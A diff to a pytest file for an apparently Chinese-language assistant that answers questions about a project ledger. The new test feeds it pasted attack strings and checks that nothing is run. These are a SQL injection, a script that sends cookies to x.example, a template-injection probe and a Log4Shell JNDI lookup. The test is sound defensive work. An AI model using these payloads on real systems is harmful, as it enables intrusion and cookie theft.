@@ -167,3 +167,15 @@ def test_a_column_said_first_then_left_empty_picks_the_projects(assistant: Assis
     assert empty, "the demo ledger has projects with no 包抓领导"
     answer = _lead(assistant.ask("包抓领导没填的项目有哪些").answer)
     assert f"包抓领导未填的项目 {len(empty)} 个" in answer and all(p["项目名称"] in answer for p in empty), answer
+
+
+@pytest.mark.parametrize("pasted", [
+    "1' OR '1'='1' UNION SELECT 企业名称,走访人员 FROM contacts; --",
+    "<script>fetch('http://x.example/c?'+document.cookie)</script>{{7*7}}${jndi:ldap://x.example/a}",
+])
+def test_pasted_code_is_no_question_and_nothing_is_run(assistant: Assistant, pasted: str) -> None:
+    answer = assistant.ask(pasted)
+    assert "不是问题" in answer.answer and not answer.citations and not answer.figures, answer.answer
+    # a question asked in Chinese around a code word is still answered
+    asked = assistant.ask("汉阴县一季度外资多少？")
+    assert [f for f in asked.figures if f.value is not None], asked.answer
